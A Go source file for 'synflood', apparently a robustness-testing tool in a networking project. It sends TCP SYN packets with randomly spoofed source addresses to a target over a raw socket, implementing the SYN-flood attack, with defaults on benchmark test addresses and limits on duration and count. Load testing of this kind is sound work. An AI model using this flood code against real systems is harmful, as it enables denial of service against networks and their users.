// Command synflood sends TCP SYNs with spoofed source addresses drawn at
// random, per packet, from a prefix (RFC 4987 §2.2's attack), for the
// robustness scenarios of docs/robustness.md. hping3 --rand-source draws
// from the whole IPv4 space; synflood can keep the sources on the target's
// own subnet, so that a server must resolve every one of them with ARP.
//
// It writes whole IPv4 datagrams to a raw socket (IP_HDRINCL), so the
// kernel of the namespace it runs in resolves the target and frames them.
// It is bounded by -duration and -count, whichever ends first, and prints
// how many SYNs it sent. Linux only; needs CAP_NET_RAW.
package main

import (
	"flag"
	"fmt"
	"math/rand/v2"
	"net/netip"
	"os"
	"time"

	"github.com/netspec/netspec/fsm/wire"
)

func main() {
	dst := flag.String("dst", "198.18.0.2", "target address")
	port := flag.Uint("port", 80, "target TCP port")
	src := flag.String("src", "198.18.0.0/24", "prefix the spoofed sources are drawn from")
	skip := flag.String("skip", "198.18.0.1,198.18.0.2", "comma-separated addresses never used as sources (the real hosts)")
	dur := flag.Duration("duration", 3*time.Second, "stop after this long")
	count := flag.Int("count", 50_000_000, "stop after this many SYNs")
	rate := flag.Int("rate", 0, "most SYNs per second (0: as fast as the socket takes them)")
	flag.Parse()
	to, err := netip.ParseAddr(*dst)
	pfx, err2 := netip.ParsePrefix(*src)
	if err != nil || err2 != nil || !to.Is4() || !pfx.Addr().Is4() || *port == 0 || *port > 65535 {
		fmt.Fprintln(os.Stderr, "synflood: bad -dst, -src or -port")
		os.Exit(2)
	}
	avoid, err := parseSkip(*skip)
	if err != nil {
		fmt.Fprintln(os.Stderr, "synflood:", err)
		os.Exit(2)
	}
	s, err := openRaw(to.As4())
	if err != nil {
		fmt.Fprintln(os.Stderr, "synflood:", err)
		os.Exit(1)
	}
	g := gen{rng: rand.New(rand.NewPCG(uint64(time.Now().UnixNano()), 1)), pfx: pfx.Masked(), dst: wire.Addr(to.As4()), port: uint16(*port), skip: avoid}
	sent, errs := 0, 0
	start := time.Now()
	end := start.Add(*dur)
	var pkt [wire.IPv4MinHeaderLen + wire.TCPMinHeaderLen + 4]byte
	for sent < *count {
		if sent&255 == 0 {
			now := time.Now()
			if now.After(end) {
				break
			}
			if *rate > 0 {
				if ahead := time.Duration(sent)*time.Second/time.Duration(*rate) - now.Sub(start); ahead > 0 {
					time.Sleep(ahead)
				}
			}
		}
		g.syn(pkt[:])
		if s.send(pkt[:]) != nil {
			errs++
			continue
		}
		sent++
	}
	el := time.Since(start).Seconds()
	fmt.Printf("synflood: %d SYNs in %.1f s (%.0f/s), %d send errors\n", sent, el, float64(sent)/el, errs)
}

func parseSkip(s string) (map[wire.Addr]bool, error) {
	m := map[wire.Addr]bool{}
	for len(s) > 0 {
		var f string
		f, s, _ = cut(s, ',')
		a, err := netip.ParseAddr(f)
		if err != nil || !a.Is4() {
			return nil, fmt.Errorf("-skip: %q is not an IPv4 address", f)
		}
		m[wire.Addr(a.As4())] = true
	}
	return m, nil
}

func cut(s string, sep byte) (before, after string, found bool) {
	for i := 0; i < len(s); i++ {
		if s[i] == sep {
			return s[:i], s[i+1:], true
		}
	}
	return s, "", false
}

// gen builds the SYNs.
type gen struct {
	rng  *rand.Rand
	pfx  netip.Prefix
	dst  wire.Addr
	port uint16
	skip map[wire.Addr]bool
}

// source draws a host address of the prefix (not the network or broadcast
// address of a prefix shorter than /31, nor one of skip).
func (g *gen) source() wire.Addr {
	base := g.pfx.Addr().As4()
	bits := 32 - g.pfx.Bits()
	for {
		var host uint32
		if bits > 0 {
			host = g.rng.Uint32() & (1<<bits - 1)
		}
		if bits >= 2 && (host == 0 || host == 1<<bits-1) {
			continue
		}
		v := uint32(base[0])<<24 | uint32(base[1])<<16 | uint32(base[2])<<8 | uint32(base[3]) | host
		a := wire.Addr{byte(v >> 24), byte(v >> 16), byte(v >> 8), byte(v)}
		if !g.skip[a] {
			return a
		}
	}
}

// syn writes one SYN from a fresh source, port and ISN, with an MSS option.
func (g *gen) syn(pkt []byte) {
	src := g.source()
	ip := wire.IPv4Header{TotalLen: len(pkt), ID: uint16(g.rng.Uint32()), TTL: 64, Protocol: wire.ProtoTCP, Src: src, Dst: g.dst}
	ip.Put(pkt)
	tcp := wire.TCPHeader{SrcPort: uint16(1024 + g.rng.IntN(64511)), DstPort: g.port, Seq: g.rng.Uint32(), Flags: wire.FlagSYN, Window: 64240}
	tcp.Opts.HasMSS, tcp.Opts.MSS = true, 1460
	seg := pkt[wire.IPv4MinHeaderLen:]
	tcp.Put(seg)
	wire.SetTCPChecksum(seg, src, g.dst)
}
